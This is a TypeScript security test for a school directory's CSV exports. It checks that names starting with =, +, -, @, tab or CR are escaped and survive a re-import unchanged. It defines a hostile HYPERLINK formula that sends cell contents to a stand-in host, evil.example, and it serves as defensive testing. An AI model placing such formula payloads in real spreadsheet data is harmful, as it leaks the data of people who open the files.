import { strict as assert } from 'node:assert';
import { parse } from 'csv-parse/sync';
import { exportPeople, exportSchools } from '../../services/directory/export-directory.js';
import { importPeople } from '../../services/directory/import-people.js';
import { importSchools } from '../../services/directory/import-schools.js';
import type { Person } from '../../services/domain/person.js';
import type { School } from '../../services/domain/school.js';
import { csv, openStoreWithAlliance, PEOPLE_HEADER, SCHOOLS_HEADER, type TempStore } from '../services/directory/temp-store.js';

// The black-box finding: names and school names starting with =, +, -, @, tab or CR went raw into
// `s2s export`, where a spreadsheet runs them as formulas. Every CSV the product writes goes
// through one writer (services/directory/csv-cells.ts); this attacks the directory exports with it
// and re-imports what came out.

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
const HOSTILE_NAMES = [FORMULA, '+44 trick', '-2+3', '@SUM(A1:A9)'];

describe('security: CSV formula injection', () => {
  let temp: TempStore;
  beforeEach(async () => { temp = await openStoreWithAlliance(); });
  afterEach(() => temp.close());

  const cellsOf = (text: string) => (parse(text, { relax_column_count: true }) as string[][]).slice(1).flat();

  it('writes no cell that a spreadsheet would run, and a re-import reads the same names back', async () => {
    await importSchools(temp.store, temp.clock, 'test-hub', { fileName: 's.csv', text: csv(SCHOOLS_HEADER, `990001,"${FORMULA.replace(/"/g, '""')}",primary,,,,,`) });
    await importPeople(temp.store, temp.clock, 'test-hub', {
      fileName: 'p.csv',
      text: csv(PEOPLE_HEADER, ...HOSTILE_NAMES.map((name, i) => `p${i}@example.org,"${name.replace(/"/g, '""')}",head,990001,,,,,,`)),
    });

    const schools = await exportSchools(temp.store, 'test-hub');
    const people = await exportPeople(temp.store, 'test-hub');
    for (const cell of [...cellsOf(schools), ...cellsOf(people)]) {
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a spreadsheet would run ${JSON.stringify(cell)}`);
    }
    assert.ok(cellsOf(people).includes(`'${FORMULA}`), 'the name is kept, shown as text');

    // The exported files are import files: the round trip changes nothing.
    const before = (await temp.store.query<Person>('test-hub', { type: 'person', orderBy: [{ field: 'email' }] })).map((p) => p.name);
    await importSchools(temp.store, temp.clock, 'test-hub', { fileName: 'schools.csv', text: schools });
    await importPeople(temp.store, temp.clock, 'test-hub', { fileName: 'people.csv', text: people });
    const after = (await temp.store.query<Person>('test-hub', { type: 'person', orderBy: [{ field: 'email' }] })).map((p) => p.name);
    assert.deepEqual(after, before);
    assert.deepEqual(after, HOSTILE_NAMES);
    assert.equal((await temp.store.query<School>('test-hub', { type: 'school' }))[0].name, FORMULA);
  });
});
